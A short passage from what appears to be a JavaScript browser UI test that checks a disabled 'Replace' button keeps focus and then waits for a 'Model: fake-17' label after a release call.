  await card.getByRole("button", { name: "Replace", disabled: true }).waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.textContent), "Replace");
  release();
  await page.getByText(/Model: fake-17/).waitFor();
  page.calm();
});
